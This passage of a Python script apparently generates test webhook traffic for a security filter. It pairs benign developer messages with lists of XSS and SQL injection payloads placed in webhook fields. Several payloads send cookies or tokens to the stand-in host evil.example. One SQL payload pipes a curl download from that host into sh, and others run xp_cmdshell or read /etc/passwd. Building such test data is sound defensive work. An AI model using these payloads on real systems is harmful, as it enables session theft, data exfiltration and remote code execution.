        obj = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns, "labels": {"app": name.rsplit("-", 1)[0]},
                                                               "annotations": g("annotations", {"prometheus.io/scrape": "true"})},
               "spec": {"containers": [{"name": "app", "image": g("image", "registry.example.com/acme/%s:v2.4.%d" % (name.rsplit("-", 1)[0], R.randint(0, 9))),
                                        "args": g("args", ["--port=8080"]), "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}}}],
                        "serviceAccountName": "default"}}
        gvk = {"group": "", "version": "v1", "kind": "Pod"}
        res = {"group": "", "version": "v1", "resource": "pods"}
    elif kind == "Ingress":
        obj = {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress",
               "metadata": {"name": name, "namespace": ns, "annotations": g("annotations", {"nginx.ingress.kubernetes.io/proxy-body-size": "8m",
                                                                                             "cert-manager.io/cluster-issuer": "letsencrypt"})},
               "spec": {"ingressClassName": "nginx", "rules": [{"host": g("ihost", "%s.example.com" % name.rsplit("-", 1)[0]),
                                                                "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": {"service": {"name": name, "port": {"number": 8080}}}}]}}]}}
        gvk = {"group": "networking.k8s.io", "version": "v1", "kind": "Ingress"}
        res = {"group": "networking.k8s.io", "version": "v1", "resource": "ingresses"}
    elif kind == "Deployment":
        obj = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, "namespace": ns},
               "spec": {"replicas": R.randint(1, 6), "selector": {"matchLabels": {"app": name}},
                        "template": {"metadata": {"labels": {"app": name}}, "spec": {"containers": [{"name": "app", "image": "registry.example.com/acme/%s:latest" % name}]}}}}
        gvk = {"group": "apps", "version": "v1", "kind": "Deployment"}
        res = {"group": "apps", "version": "v1", "resource": "deployments"}
    else:
        obj = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "namespace": ns},
               "data": g("data", {"LOG_LEVEL": "info", "FEATURE_FLAGS": "checkout_v2,apple_pay"})}
        gvk = {"group": "", "version": "v1", "kind": "ConfigMap"}
        res = {"group": "", "version": "v1", "resource": "configmaps"}
    p = {"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
         "request": {"uid": uid(), "kind": gvk, "resource": res, "requestKind": gvk, "requestResource": res, "name": name, "namespace": ns,
                     "operation": g("operation", pick(["CREATE", "UPDATE"])),
                     "userInfo": {"username": g("username", pick(["system:serviceaccount:argocd:argocd-application-controller", "kubernetes-admin", "oidc:zoe@example.com"])),
                                  "uid": uid(), "groups": ["system:authenticated"]},
                     "object": obj, "oldObject": None, "dryRun": False, "options": {"kind": "CreateOptions", "apiVersion": "meta.k8s.io/v1"}}}
    body = J(p)
    h = [["Host", g("host", pick(["admission.example.com", "policy-webhook.example.net"]))], ["User-Agent", "kube-apiserver-admission"],
         ["Content-Type", "application/json"], ["Accept", "application/json, */*"], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/validate?timeout=10s", "/mutate-v1-pod?timeout=5s", "/networking/v1/ingresses?timeout=10s"])), h, body)


# ================================================= dev-content (expect pass)
DEV_COMMITS = [
    "fix(search): use bound parameters for product search\n\n```diff\n-    sql = f\"SELECT id, name FROM products WHERE name ILIKE '%{term}%'\"\n-    rows = db.execute(sql)\n+    sql = \"SELECT id, name FROM products WHERE name ILIKE %s\"\n+    rows = db.execute(sql, (f\"%{term}%\",))\n```\n\nReported by the pentest in January.",
    "migrations: add note column to orders\n\nALTER TABLE orders ADD COLUMN note text;\nCREATE INDEX CONCURRENTLY idx_orders_created_at ON orders (created_at);",
    "chore(docker): slim the runtime image\n\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \\\n    && rm -rf /var/lib/apt/lists/*",
    "ci: run migrations before tests\n\n    - run: psql \"$DATABASE_URL\" -f db/schema.sql\n    - run: pytest -q --maxfail=1",
    "Don't log the Authorization header\n\nThe request logger printed `headers['Authorization']` at DEBUG level.",
    "refactor(pdf): replace Runtime.getRuntime().exec with ProcessBuilder\n\nPass arguments as a list so file names with spaces work:\nnew ProcessBuilder(\"wkhtmltopdf\", \"--quiet\", in.toString(), out.toString())",
    "fix(templates): escape < and > in order confirmation emails\n\nUse {{ customer.name | e }} instead of {{ customer.name | safe }}.",
    "Use shell=False in backup job\n\n-subprocess.run(f\"pg_dump {db} | gzip > {out}\", shell=True)\n+subprocess.run([\"pg_dump\", \"-Fc\", \"-f\", out, db], check=True)",
    "feat(k8s): add readiness probe\n\nreadinessProbe:\n  httpGet:\n    path: /healthz\n    port: 8080\n  initialDelaySeconds: 5",
    "Revert \"drop users.legacy_id\"\n\nThis reverts commit 9c1d2e3. The down migration ran `DROP COLUMN legacy_id` on prod-eu before the backfill finished.",
    "fix: reject export names containing path separators\n\nsecure_filename() now strips '/' and '..' from user-supplied names; added tests.",
    "build: pin node to 20.11 in .nvmrc and Dockerfile (FROM node:20.11-alpine)",
    "perf(sql): replace N+1 with a single JOIN\n\nSELECT o.id, o.total, c.name\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at >= now() - interval '30 days'\nORDER BY o.created_at DESC\nLIMIT 100;",
    "scripts: add cleanup cronjob\n\nfind /var/cache/app -type f -mtime +7 -delete",
]

DEV_PR = [
    "## Summary\nSwitches the product search to parameterised queries.\n\n## Before\n```python\ncursor.execute(\"SELECT * FROM products WHERE sku = '%s'\" % sku)\n```\n\n## After\n```python\ncursor.execute(\"SELECT * FROM products WHERE sku = %s\", (sku,))\n```\n\n## Testing\n```bash\npytest tests/test_search.py -k sku -q\n```",
    "### What\nAdds a migration for the `invoices` table.\n\n```sql\nCREATE TABLE invoices (\n  id bigserial PRIMARY KEY,\n  customer_id bigint NOT NULL REFERENCES customers(id) ON DELETE CASCADE,\n  total_cents integer NOT NULL CHECK (total_cents >= 0),\n  created_at timestamptz NOT NULL DEFAULT now()\n);\n\nINSERT INTO invoice_numbers (prefix, next_value) VALUES ('INV', 1)\nON CONFLICT (prefix) DO NOTHING;\n```\n\nRollback: `DROP TABLE invoices;`",
    "This moves the deploy to Helm.\n\n```bash\nhelm upgrade --install payments-api ./charts/api \\\n  --namespace prod --create-namespace \\\n  --set image.tag=${GITHUB_SHA::7} \\\n  --wait --timeout 5m\nkubectl -n prod rollout status deploy/payments-api\n```\n\nIf it fails: `kubectl -n prod rollout undo deploy/payments-api`",
    "Fixes the XSS that QA found in the comment widget.\n\nWe rendered the comment body with `innerHTML`:\n```js\nel.innerHTML = comment.body;\n```\nNow it goes through DOMPurify:\n```js\nel.innerHTML = DOMPurify.sanitize(comment.body, { ALLOWED_TAGS: ['b', 'i', 'a', 'code'] });\n```\nAdded a test that `<img src=x onerror=alert(1)>` is rendered inert.",
    "Reproduction for the 500 on order creation:\n\n```\ncurl -sS -X POST https://api.example.com/v1/orders \\\n  -H 'Content-Type: application/json' \\\n  -H \"Authorization: Bearer $TOKEN\" \\\n  -d '{\"items\":[{\"sku\":\"TEE-M\",\"qty\":-1}]}'\n```\nReturns `500 Internal Server Error` instead of 422.",
    "### Jinja cleanup\nThe footer template did `{% include 'footer_' ~ locale ~ '.html' %}`. Replaced with an explicit map:\n```jinja\n{% set footers = {'de': 'footer_de.html', 'en': 'footer_en.html'} %}\n{% include footers.get(locale, 'footer_en.html') %}\n```",
    "Terraform for the new bucket:\n```hcl\nresource \"aws_s3_bucket\" \"uploads\" {\n  bucket = \"acme-uploads-${var.env}\"\n}\n\nresource \"aws_s3_bucket_public_access_block\" \"uploads\" {\n  bucket                  = aws_s3_bucket.uploads.id\n  block_public_acls       = true\n  restrict_public_buckets = true\n}\n```",
    "Nginx config change for the webhook endpoints:\n```nginx\nlocation /webhooks/ {\n    client_max_body_size 5m;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_pass http://webhook-receiver.prod.svc:8080;\n}\n```",
    "PHP 8.3 upgrade notes:\n```php\n<?php\n$stmt = $pdo->prepare('SELECT id, email FROM users WHERE id = :id');\n$stmt->execute(['id' => $id]);\n$user = $stmt->fetch(PDO::FETCH_ASSOC);\n```\n`mysql_*` calls are gone for good.",
    "Adds a GitHub Actions job:\n```yaml\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"sha=${{ github.sha }}\" >> \"$GITHUB_OUTPUT\"\n      - run: make test\n```",
    "Mongo query for the report (read replica):\n```js\ndb.orders.aggregate([\n  { $match: { status: { $in: ['paid', 'shipped'] }, createdAt: { $gte: ISODate('2026-01-01') } } },\n  { $group: { _id: '$customerId', total: { $sum: '$total' } } },\n  { $sort: { total: -1 } }, { $limit: 20 }\n])\n```",
    "LDAP sync: use the paged search and the right filter.\n```python\nconn.search('ou=people,dc=example,dc=com', '(&(objectClass=person)(mail=*))', attributes=['cn', 'mail'], paged_size=500)\n```",
]

DEV_LOGS = [
    "2026-02-11T14:02:11.123Z ERROR [billing-worker] org.postgresql.util.PSQLException: ERROR: deadlock detected\n  Detail: Process 12345 waits for ShareLock on transaction 678; blocked by process 910.\n  Hint: See server log for query details.\n  Where: while updating tuple (0,1) in relation \"invoices\"\n\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)\n\tat com.acme.billing.InvoiceRepository.markPaid(InvoiceRepository.java:57)",
    "From the ingress logs:\n\n203.0.113.5 - - [11/Feb/2026:14:02:11 +0000] \"POST /api/v1/orders HTTP/1.1\" 502 157 \"https://shop.example.com/checkout\" \"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)\" 0.061 [prod-checkout-service-8080] 10.0.3.14:8080 0 0.060 502\n203.0.113.5 - - [11/Feb/2026:14:02:12 +0000] \"GET /api/v1/cart HTTP/1.1\" 200 912 \"-\" \"Mozilla/5.0\" 0.012",
    "kubectl output:\n\nNAME                              READY   STATUS             RESTARTS      AGE\nbilling-worker-7d9f8c6b5-x2k4p    0/1     CrashLoopBackOff   12 (2m ago)   41m\n\n$ kubectl -n prod logs billing-worker-7d9f8c6b5-x2k4p --previous\nTraceback (most recent call last):\n  File \"/app/worker.py\", line 88, in <module>\n    main()\n  File \"/app/worker.py\", line 31, in main\n    conn = psycopg2.connect(os.environ[\"DATABASE_URL\"])\nKeyError: 'DATABASE_URL'",
    "Slow query log:\n# Query_time: 12.481  Lock_time: 0.000 Rows_sent: 20  Rows_examined: 4812231\nSELECT o.*, c.email FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE o.status = 'pending' ORDER BY o.created_at DESC LIMIT 20 OFFSET 96000;",
    "Customer pasted this from their console:\n\nUncaught (in promise) TypeError: Cannot read properties of undefined (reading 'map')\n    at renderLineItems (checkout.3f9a1c.js:1:48211)\n    at HTMLDocument.<anonymous> (checkout.3f9a1c.js:1:51002)\nGET https://api.example.com/v1/cart?include=items,discounts 401 (Unauthorized)",
    "Redis errors during the failover:\n\nredis.exceptions.ConnectionError: Error 111 connecting to redis-cache.prod.svc:6379. Connection refused.\nREADONLY You can't write against a read only replica. script: 8d1f..., on @user_script:1.",
]

SENTRY_FRAMES = [
    [{"filename": "app/repositories/users.py", "abs_path": "/srv/app/repositories/users.py", "function": "create_user", "module": "app.repositories.users", "lineno": 42, "in_app": True,
      "context_line": "        cur.execute(\"INSERT INTO users (email, name) VALUES (%s, %s) RETURNING id\", (email, name))",
      "pre_context": ["    def create_user(self, email, name):", "        cur = self.conn.cursor()"], "post_context": ["        return cur.fetchone()[0]"]}],
    [{"filename": "com/acme/billing/InvoiceService.java", "abs_path": "InvoiceService.java", "function": "render", "module": "com.acme.billing.InvoiceService", "lineno": 88, "in_app": True,
      "context_line": "        String html = engine.process(\"invoice\", ctx);", "pre_context": ["        Context ctx = new Context(locale);", "        ctx.setVariable(\"invoice\", invoice);"],
      "post_context": ["        return pdf.render(html);"]},
     {"filename": "org/thymeleaf/TemplateEngine.java", "abs_path": "TemplateEngine.java", "function": "process", "module": "org.thymeleaf.TemplateEngine", "lineno": 1100, "in_app": False}],
    [{"filename": "/app/src/routes/webhooks.ts", "abs_path": "/app/src/routes/webhooks.ts", "function": "handleStripe", "lineno": 57, "colno": 31, "in_app": True,
      "context_line": "  const event = stripe.webhooks.constructEvent(req.body, sig, process.env.STRIPE_WEBHOOK_SECRET!);",
      "pre_context": ["router.post('/stripe', express.raw({ type: 'application/json' }), async (req, res) => {", "  const sig = req.headers['stripe-signature'] as string;"],
      "post_context": ["  switch (event.type) {"]}],
    [{"filename": "app/templates/emails/order_confirmation.html", "abs_path": "/srv/app/templates/emails/order_confirmation.html", "function": "top-level template code", "lineno": 14, "in_app": True,
      "context_line": "  <p>Hallo {{ order.customer.first_name }}, danke für deine Bestellung #{{ order.number }}!</p>",
      "pre_context": ["{% extends 'emails/base.html' %}", "{% block content %}"], "post_context": ["  {% for item in order.items %}"]}],
    [{"filename": "app/Http/Controllers/ExportController.php", "abs_path": "/var/www/app/Http/Controllers/ExportController.php", "function": "download", "lineno": 31, "in_app": True,
      "context_line": "        $rows = DB::select('SELECT * FROM exports WHERE id = ? AND tenant_id = ?', [$id, $tenant]);",
      "pre_context": ["    public function download(Request $request, int $id)", "    {"], "post_context": ["        return response()->streamDownload(fn () => $this->csv($rows), 'export.csv');"]}],
    [{"filename": "app/jobs/backup.rb", "abs_path": "/app/app/jobs/backup.rb", "function": "perform", "lineno": 12, "in_app": True,
      "context_line": "    system(\"pg_dump\", \"-Fc\", \"-f\", path, ENV.fetch(\"DATABASE_URL\"), exception: true)",
      "pre_context": ["  def perform", "    path = Rails.root.join(\"tmp\", \"backup-#{Time.now.to_i}.dump\").to_s"], "post_context": ["    S3Uploader.new.upload(path)"]}],
]
SENTRY_EXC = [("psycopg2.errors.UniqueViolation", "duplicate key value violates unique constraint \"users_email_key\"\nDETAIL:  Key (email)=(zoe@example.com) already exists.\n[SQL: INSERT INTO users (email, name) VALUES (%(email)s, %(name)s) RETURNING users.id]"),
              ("org.thymeleaf.exceptions.TemplateInputException", "An error happened during template parsing (template: \"class path resource [templates/invoice.html]\")"),
              ("StripeSignatureVerificationError", "No signatures found matching the expected signature for payload. Are you passing the raw request body you received from Stripe?"),
              ("jinja2.exceptions.UndefinedError", "'dict object' has no attribute 'first_name'"),
              ("Illuminate\\Database\\QueryException", "SQLSTATE[42S22]: Column not found: 1054 Unknown column 'tenant_id' in 'where clause' (SQL: select * from `exports` where `id` = 12 and `tenant_id` = 3)"),
              ("RuntimeError", "Command failed with exit 1: pg_dump -Fc -f /app/tmp/backup-1770811200.dump")]

LOGQL = ['sum by (app) (count_over_time({namespace="prod"} |= "ERROR" | json | line_format "{{.level}} {{.msg}}" [5m])) > 50',
         'sum(rate({app="ingress-nginx"} | pattern `<ip> - - [<_>] "<method> <uri> <_>" <status> <_>` | status >= 500 [5m])) > 5',
         'topk(5, sum by (path) (rate(http_requests_total{path=~"/api/.*", code=~"5.."}[10m])))',
         'absent(up{job="payments-api"} == 1)']

DD_DEV_QUERIES = ['logs("service:nginx @http.status_code:[500 TO 599] -@http.url_details.path:\\"/healthz\\"").index("*").rollup("count").last("5m") > 50',
                  'avg(last_10m):avg:postgresql.queries.time{query_signature:select_from_orders_where_status} > 2',
                  'logs("source:postgresql \\"ERROR:  syntax error at or near\\"").index("main").rollup("count").last("15m") > 0']

INTERCOM_DEV = ["<p>Hi! I'm trying to embed your widget. I added <code>&lt;script src=\"https://js.example.com/widget.js\" async&gt;&lt;/script&gt;</code> to my page but nothing shows up. The console says <code>Refused to load the script because it violates the following Content Security Policy directive: \"script-src 'self'\"</code>. What should I add to my CSP?</p>",
                "<p>Your API returns 500 when the email has a plus sign:</p><pre><code>curl -X POST https://api.example.com/v1/contacts -d '{\"email\":\"a+b@example.com\"}'</code></pre><p>Works with a normal address.</p>",
                "<p>Is there a way to filter by date in the export? Something like <code>WHERE created_at &gt;= '2026-01-01'</code>?</p>",
                "<p>Our webhook handler gets <code>signature mismatch</code>. We compute <code>hmac.new(secret, body, hashlib.sha256).hexdigest()</code> — is the body the raw bytes?</p>"]

SLACK_DEV = ["Anyone know why this is slow?\n```SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day' AND status <> 'cancelled';```",
             "to restart the worker: `kubectl -n prod rollout restart deploy/billing-worker && kubectl -n prod get pods -w`",
             "the culprit was `rm -rf $BUILD_DIR/` with BUILD_DIR unset :facepalm: fixed with `set -u`",
             "quick jq one-liner for the audit log: `jq -r '.events[] | select(.type==\"login\") | .user' audit.json | sort | uniq -c`",
             "PSA: don't `git push --force` to main, use `--force-with-lease` on your own branches",
             "the regex for order numbers is `^#?[0-9]{4,6}$` btw"]


def dev_content():
    items = []
    for m in DEV_COMMITS:
        items.append(("github", github, {"event": "push", "message": m}))
    for m in DEV_COMMITS[:3]:
        items.append(("gitlab", gitlab, {"event": "push", "message": m}))
    for m in DEV_COMMITS[6:10]:
        items.append(("bitbucket", bitbucket, {"event": "repo:push", "message": m}))
    for m in DEV_COMMITS[10:12]:
        items.append(("vercel", vercel, {"message": m}))
    for i, b in enumerate(DEV_PR):
        items.append(("github", github, {"event": "pull_request", "body": b, "title": pick(PR_TITLES)}))
    for b in DEV_PR[:4]:
        items.append(("gitlab", gitlab, {"event": "merge_request", "body": b}))
    for b in DEV_PR[4:8]:
        items.append(("bitbucket", bitbucket, {"event": "pullrequest:created", "body": b}))
    for b in DEV_PR[8:12]:
        items.append(("linear", linear, {"type": "Issue", "description": b}))
    for b in DEV_LOGS:
        items.append(("jira", jira, {"event": "jira:issue_created", "description": b}))
    for b in DEV_LOGS[:2]:
        items.append(("github", github, {"event": "issue_comment", "body": b}))
    for b in DEV_LOGS[4:]:
        items.append(("zendesk", zendesk, {"description": b, "subject": "Error on checkout"}))
    for fr, (et, ev) in zip(SENTRY_FRAMES, SENTRY_EXC):
        items.append(("sentry", sentry, {"frames": fr, "exc_type": et, "exc_value": ev,
                                         "platform": {"com/": "java", "/app/src": "node", "app/Http": "php", "app/jobs": "ruby"}.get(next((k for k in ["com/", "/app/src", "app/Http", "app/jobs"] if fr[0]["filename"].startswith(k)), ""), "python")}))
        if fr is SENTRY_FRAMES[0] or fr is SENTRY_FRAMES[3]:
            items.append(("sentry", sentry, {"frames": fr, "exc_type": et, "exc_value": ev, "resource": "issue"}))
    for qy in LOGQL + PROMQL[:2]:
        items.append(("grafana", grafana, {"expr": qy}))
    for qy in DD_DEV_QUERIES:
        items.append(("datadog", datadog, {"query": qy}))
    for b in INTERCOM_DEV:
        items.append(("intercom", intercom, {"body_html": b, "topic": "conversation.user.created"}))
    for tx in SLACK_DEV:
        items.append(("slack", slack, {"kind": "event", "etype": "message", "text": tx}))
    items.append(("slack", slack, {"kind": "slash", "command": "/sql", "text": "SELECT plan, count(*) FROM accounts GROUP BY plan"}))
    items.append(("slack", slack, {"kind": "slash", "command": "/kubectl", "text": "-n prod get pods -l app=billing-worker"}))
    items.append(("github", github, {"event": "release", "body": "## Security\n* Fixed a SQL injection in the `/search` endpoint (GHSA-xxxx-2026-0001). The `sort` parameter was concatenated into `ORDER BY`.\n* Escape HTML in order notes before rendering them in the admin UI.\n\n## Changes\n* `pg_dump` backups now run with `--no-owner`\n\n**Full Changelog**: https://github.com/acme/payments-api/compare/v2.3.0...v2.4.0"}))
    items.append(("github", github, {"event": "workflow_run", "title": "Fix `DROP TABLE` in the down migration of 0042_invoices"}))
    items.append(("circleci", circleci, {"message": "test: cover `../` in export file names"}))
    items.append(("netlify", netlify, {"message": "docs: explain `<script>` tag placement for the widget", "state": "ready"}))
    items.append(("confluence", confluence, {"title": "How-to: run SELECT queries on the read replica"}))
    items.append(("typeform", typeform, {"answer": "My favourite trick is DISTINCT ON:\nSELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, created_at DESC;"}))
    items.append(("postmark", postmark, {"subject": "Re: API error 500", "text": "Hi, here is the request we send:\n\nPOST /v1/contacts HTTP/1.1\nHost: api.example.com\nContent-Type: application/json\n\n{\"email\": \"a+b@example.com\", \"tags\": [\"vip\"]}\n\nand the response body is {\"error\":\"internal\"}."}))
    items.append(("mailgun", mailgun, {"subject": "Build failed: payments-api #4012", "text": "Step 'Run tests' failed:\n\n$ npm test\n> jest --ci\nFAIL src/orders.test.ts\n  ● rejects negative quantity\n    expect(received).toBe(expected)\n    Expected: 422\n    Received: 500"}))
    items.append(("alertmanager", alertmanager, {"description": "rate(container_cpu_cfs_throttled_seconds_total{namespace=\"prod\"}[5m]) > 0.5 for pod billing-worker"}))
    items.append(("pagerduty", pagerduty, {"event_type": "incident.annotated", "note": "Mitigation: ran `UPDATE feature_flags SET enabled = false WHERE name = 'new_checkout';` and restarted the pods."}))
    items.append(("figma", figma, {"event_type": "FILE_COMMENT", "comment": "Dev note: the button uses `<button type=\"submit\" class=\"btn btn-primary\">` — please keep the class names."}))
    items.append(("discord", discord, {"type": 2, "command": "snippet", "value": "for i in range(10): print(i ** 2)"}))
    return items


# ================================================================ attacks
EVIL = "evil.example"
ATK_IP = "203.0.113.66"


def cyc(seq):
    i = 0
    while True:
        yield seq[i % len(seq)]
        i += 1


def html_mail_with(payload_html, name="Customer"):
    return ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif">'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td style="padding:12px">Hello,<br><br>%s<br><br>Regards,<br>%s</td></tr></table>'
            '</body></html>') % (payload_html, hesc(name))


def probe(method, uri, ua, host=None, ct=None, body=None, extra=None):
    h = [["Host", host or pick(HOSTS)], ["User-Agent", ua], ["Accept", "*/*"]]
    if ct:
        h.append(["Content-Type", ct])
    h += extra or []
    return REQ(method, uri, h, body)


CURL_UA = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "axios/1.6.8", "okhttp/4.12.0"]


def attacks_xss():
    P = ['<script>fetch("https://c.%s/x?c="+document.cookie)</script>' % EVIL,
         '<img src=x onerror=alert(document.domain)>',
         '"><svg/onload=import("//%s/p.js")>' % EVIL,
         '<iframe srcdoc="<script>parent.location=`//%s/?`+document.cookie</script>"></iframe>' % EVIL,
         '<details open ontoggle=alert(1)>',
         '<body onload=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlLycrZG9jdW1lbnQuY29va2llKQ=="))>',
         '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
         '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
         '<video><source onerror="eval(String.fromCharCode(97,108,101,114,116,40,49,41))">',
         '<input autofocus onfocus=alert(1)>',
         '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
         '<ScRiPt>new Image().src="//%s/l?"+document.cookie</sCrIpT>' % EVIL,
         '<img src="x" onerror="this.src=\'//%s/?\'+document.cookie">' % EVIL,
         '<script src=//%s/hook.js></script>' % EVIL,
         '</textarea><script>alert(1)</script>',
         '<svg><script xlink:href=data:,alert(1)></script>',
         '<img src=1 onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
         '<a href="data:text/html,<script>alert(1)</script>">invoice</a>',
         '<form action="javascript:alert(1)"><button>Pay now</button></form>',
         '<marquee onstart=alert(document.cookie)>',
         '<embed src="javascript:alert(1)">',
         '<div style="width:expression(alert(1))">',
         '\'"><img src=x onerror=prompt(1)>',
         '<svg onload=setTimeout`alert\\x28document.domain\\x29`>',
         '<a href="javascript:fetch(\'//%s/\'+localStorage.token)">View</a>' % EVIL,
         '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
         '<iframe src="javascript:alert(`xss`)">',
         '<img src=x:alert(alt) onerror=eval(src) alt=0>']
    T = [("github", github, lambda p: {"event": "push", "author_name": p}),
         ("github", github, lambda p: {"event": "pull_request", "title": p}),
         ("github", github, lambda p: {"event": "issue_comment", "body": "Thanks!\n\n" + p}),
         ("github", github, lambda p: {"event": "release", "title": p}),
         ("gitlab", gitlab, lambda p: {"event": "merge_request", "title": p}),
         ("gitlab", gitlab, lambda p: {"event": "note", "body": p}),
         ("bitbucket", bitbucket, lambda p: {"event": "repo:push", "author_raw": p + " <dev@example.com>"}),
         ("stripe", stripe, lambda p: {"type": "customer.created", "name": p}),
         ("stripe", stripe, lambda p: {"type": "checkout.session.completed", "metadata": {"gift_message": p}}),
         ("shopify", shopify, lambda p: {"topic": "orders/create", "first_name": p}),
         ("shopify", shopify, lambda p: {"topic": "orders/create", "note": p}),
         ("shopify", shopify, lambda p: {"topic": "products/update", "body_html": "<p>Soft organic tee.</p>" + p}),
         ("woocommerce", woocommerce, lambda p: {"topic": "order.created", "note": p}),
         ("slack", slack, lambda p: {"kind": "event", "etype": "team_join", "real_name": p}),
         ("slack", slack, lambda p: {"kind": "slash", "command": "/feedback", "text": p}),
         ("discord", discord, lambda p: {"type": 2, "value": p}),
         ("msgraph", msgraph, lambda p: {"kind": "teams_outgoing", "from_name": p}),
         ("twilio", twilio, lambda p: {"kind": "inbound", "body": p}),
         ("sendgrid", sendgrid_events, lambda p: {"n": 1, "unique_args": {"campaign_name": p}}),
         ("mailgun", mailgun, lambda p: {"subject": p}),
         ("postmark", postmark, lambda p: {"from_name": p}),
         ("zendesk", zendesk, lambda p: {"subject": p}),
         ("zendesk", zendesk, lambda p: {"requester_name": p, "style": "custom"}),
         ("intercom", intercom, lambda p: {"body_html": "<p>Hi team</p>" + p, "topic": "conversation.user.created"}),
         ("freshdesk", freshdesk, lambda p: {"subject": p}),
         ("hubspot", hubspot, lambda p: {"propertyName": "firstname", "propertyValue": p}),
         ("jira", jira, lambda p: {"summary": p}),
         ("linear", linear, lambda p: {"type": "Issue", "title": p}),
         ("typeform", typeform, lambda p: {"answer": p}),
         ("calendly", calendly, lambda p: {"name": p}),
         ("segment", segment, lambda p: {"type": "track", "event": "Products Searched", "properties": {"query": p}}),
         ("pagerduty", pagerduty, lambda p: {"title": p}),
         ("sentry", sentry, lambda p: {"title": p}),
         ("okta", okta, lambda p: {"verify": False, "display_name": p}),
         ("auth0", auth0, lambda p: {"n": 1, "user_name": p}),
         ("figma", figma, lambda p: {"event_type": "FILE_COMMENT", "comment": p}),
         ("svix", svix, lambda p: {"app": "clerk", "first_name": p}),
         ("zoom", zoom, lambda p: {"event": "meeting.started", "topic": p})]
    pc = cyc(P)
    for prov, fn, mk in T:
        emit("xss", prov, fn(mk(next(pc))))
    # HTML e-mail bodies: payloads inside real HTML, entity-obfuscated
    emit("xss", "mailgun", mailgun({"html": html_mail_with('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie)">Track your parcel</a>')}))
    emit("xss", "postmark", postmark({"html": html_mail_with('<img src="https://cdn.example.com/logo.png" onerror="fetch(\'//%s/\'+document.cookie)" width="1">' % EVIL)}))
    emit("xss", "sendgrid-inbound", sendgrid_inbound({"html": html_mail_with('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Open invoice</text></a></svg>')}))
    emit("xss", "meta", meta({"kind": "msg", "mtype": "text", "text": P[1]}))


def attacks_sqli():
    P = ["' OR '1'='1' -- ",
         "1'; DROP TABLE orders;--",
         "x' UNION SELECT username,password_hash,NULL FROM admin_users--",
         "'; WAITFOR DELAY '0:0:5'--",
         "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
         "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
         "'||(SELECT pg_sleep(5))||'",
         "1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
         "admin'/**/OR/**/1=1#",
         "'); INSERT INTO users(email,role) VALUES('ops@%s','admin');--" % EVIL,
         "1; COPY (SELECT '') TO PROGRAM 'curl -s http://%s/x|sh'--" % EVIL,
         "' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a",
         "-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
         "\"; SELECT load_file('/etc/passwd');--",
         "10482' AND 1=(SELECT COUNT(*) FROM pg_user)--",
         "1' ORDER BY 9-- -",
         "x'||UTL_INADDR.get_host_address((SELECT user FROM dual)||'.%s')||'" % EVIL,
         "'; EXEC xp_cmdshell 'whoami';--",
         "' AND 1=0 UNION SELECT @@version,NULL-- ",
         "1) OR BENCHMARK(5000000,MD5(1))#",
         "' AND ascii(substr((select database()),1,1))>64 -- ",
         "a' AND (SELECT 8745 FROM(SELECT COUNT(*),CONCAT(0x716b,(SELECT user()),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- xyz",
         "'; UPDATE accounts SET balance=999999 WHERE email='x@%s'; --" % EVIL,
         "WELCOME10' UNION SELECT code,discount,1 FROM coupons--",
         "' OR sleep(5)='",
         "1 OR 1=1--"]
    T = [("shopify", shopify, lambda p: {"topic": "orders/create", "note": p}),
         ("shopify", shopify, lambda p: {"topic": "orders/create", "note_attributes": [{"name": "gift_message", "value": p}]}),
         ("shopify", shopify, lambda p: {"topic": "orders/paid", "discount_codes": [{"code": p, "amount": "5.00", "type": "fixed_amount"}]}),
         ("shopify", shopify, lambda p: {"topic": "customers/create", "last_name": p}),
         ("stripe", stripe, lambda p: {"type": "payment_intent.succeeded", "metadata": {"order_id": p}}),
         ("stripe", stripe, lambda p: {"type": "charge.succeeded", "description": p}),
         ("stripe", stripe, lambda p: {"type": "checkout.session.completed", "client_reference_id": p}),
         ("woocommerce", woocommerce, lambda p: {"topic": "order.created", "meta_data": [{"id": 9, "key": "_tracking_number", "value": p}]}),
         ("woocommerce", woocommerce, lambda p: {"topic": "product.updated", "sku": p}),
         ("paypal", paypal, lambda p: {"custom_id": p}),
         ("paypal", paypal, lambda p: {"invoice_id": p}),
         ("paddle", paddle, lambda p: {"custom_data": {"workspace_id": p}}),
